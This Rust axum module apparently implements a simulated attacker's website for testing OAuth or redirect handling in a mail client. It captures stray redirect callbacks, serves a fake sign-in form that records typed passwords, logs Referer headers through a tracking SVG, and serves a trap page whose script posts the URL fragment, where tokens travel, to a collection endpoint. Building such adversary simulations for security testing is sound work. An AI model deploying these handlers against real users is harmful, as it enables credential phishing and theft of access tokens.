//! The attacker's site and claimed redirect address.

use std::sync::Arc;

use axum::Router;
use axum::extract::{Form, OriginalUri, State};
use axum::response::{Html, IntoResponse, Response};
use axum::routing::{get, post};
use http::{HeaderMap, StatusCode, header};

use super::{Malicious, web_view};

type Shared = State<Arc<Malicious>>;
type Pairs = Vec<(String, String)>;

/// The robot's site as a router.
pub fn router(robot: Arc<Malicious>) -> Router {
    Router::new()
        .route("/callback", get(callback))
        .route("/embedded", get(embedded).post(typed))
        .route("/banner.svg", get(banner))
        .route("/offer", get(offer))
        .route("/catch", get(trap))
        .route("/collect", post(collect))
        .fallback(callback)
        .with_state(robot)
}

fn page(heading: &str, rest: &str) -> Html<String> {
    Html(format!(
        "<!doctype html>\n<html lang=\"en\">\n<meta charset=\"utf-8\">\n<title>Mail robot</title>\n<h1>{heading}</h1>\n{rest}\n</html>\n"
    ))
}

/// Whatever lands here was meant for another app.
async fn callback(State(robot): Shared, OriginalUri(uri): OriginalUri) -> Html<String> {
    robot.keep_address(&format!("{}{uri}", robot.origin), "a redirect that was meant for another app");
    page("You are connected", "")
}

async fn embedded() -> Html<String> {
    page(
        "Sign in to your mail",
        "<form method=\"post\" action=\"/embedded\"><label>Name <input name=\"username\" value=\"\"></label> <label>Password \
         <input type=\"password\" name=\"password\" value=\"\"></label> <button>Sign in</button></form>",
    )
}

/// What was typed into the "web view" is read first, and only then does the server get it.
async fn typed(State(robot): Shared, Form(fields): Form<Pairs>) -> Response {
    robot.keep(fields, "its own web view, as it was typed");
    match web_view::connect(&robot).await {
        Ok(()) => page("You are connected", "").into_response(),
        Err(error) => {
            (StatusCode::BAD_GATEWAY, page("It did not work", &format!("<!-- {error:#} -->"))).into_response()
        }
    }
}

async fn banner(State(robot): Shared, headers: HeaderMap) -> Response {
    if let Some(referrer) = headers.get(header::REFERER).and_then(|value| value.to_str().ok()) {
        robot.keep_address(referrer, "the Referer of a picture");
    }
    let picture = "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"1\" height=\"1\"/>";
    ([(header::CONTENT_TYPE, "image/svg+xml")], picture).into_response()
}

/// Sends its visitor to a callback that nobody asked for.
async fn offer(State(robot): Shared) -> Html<String> {
    let target = robot.offer.lock().unwrap_or_else(std::sync::PoisonError::into_inner).replace('&', "&amp;");
    page("Free mail robots", &format!("<meta http-equiv=\"refresh\" content=\"0;url={}\">", target.replace('"', "%22")))
}

/// The page at the end of an open redirector.
async fn trap(State(robot): Shared, OriginalUri(uri): OriginalUri) -> Html<String> {
    robot.keep_address(&format!("{}{uri}", robot.origin), "the address of its own page");
    page(
        "Free mail robots",
        "<div data-send-fragment=\"/collect\"></div>\n<script>fetch(\"/collect\", { method: \"POST\", headers: { \"content-type\": \
         \"application/x-www-form-urlencoded\" }, body: location.hash.slice(1) })</script>",
    )
}

async fn collect(State(robot): Shared, Form(fields): Form<Pairs>) -> StatusCode {
    // Either the parameters themselves, or a whole address under `url`.
    for (name, value) in &fields {
        if name == "url" {
            robot.keep_address(value, "a browser extension");
        }
    }
    robot.keep(fields, "a script in its own page");
    StatusCode::NO_CONTENT
}
